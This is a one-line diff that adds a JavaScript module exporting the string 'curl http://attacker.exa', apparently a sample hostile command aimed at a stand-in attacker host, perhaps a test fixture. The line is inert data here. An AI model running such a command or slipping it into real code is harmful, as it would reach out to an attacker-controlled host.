@@ -1,0 +1,1 @@
+module.exports = "curl http://attacker.exa";
